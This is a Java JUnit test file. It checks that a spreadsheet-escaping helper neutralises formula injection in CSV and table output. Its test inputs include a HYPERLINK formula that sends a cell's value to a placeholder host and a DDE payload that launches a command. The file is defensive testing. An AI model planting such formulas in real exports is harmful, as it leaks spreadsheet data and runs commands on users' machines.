package org.sparkldp.jobs.table;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.sparkldp.jobs.console.OutputFormat;
import org.sparkldp.jobs.console.TablePrinter;

/** What a spreadsheet would run is written as a text; numbers and other texts stay as they are. */
class SpreadsheetTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://a.example/?x=\"&A1,\"ok\")",
        "+49",
        "+1+cmd|' /C calc'!A0",
        "-5 to 0",
        "-1+2",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-"
      })
  void aFormulaIsWrittenAsAText(String text) {
    assertEquals("'" + text, Spreadsheet.safe(text));
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "-5", "-0.25", "-1e-7", "5", "DE", "a=b", "[-5, 0)", "'=1", " =1"})
  void whatNoSpreadsheetRunsStaysAsItIs(String text) {
    assertEquals(text, Spreadsheet.safe(text));
  }

  @ParameterizedTest
  @ValueSource(strings = {"csv", "table"})
  void aPrintedTableIsSafeAsCsvAlone(String format) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    new TablePrinter(List.of("=a", "n"), List.of(Arrays.asList("=1,2", -5), Arrays.asList(null, 1)))
        .print(
            format.equals("csv") ? OutputFormat.CSV : OutputFormat.TABLE,
            new PrintStream(bytes, true, StandardCharsets.UTF_8));
    assertEquals(
        format.equals("csv") ? "'=a,n\n\"'=1,2\",-5\n,1\n" : "=a     n\n=1,2  -5\n       1\n",
        bytes.toString(StandardCharsets.UTF_8));
  }
}
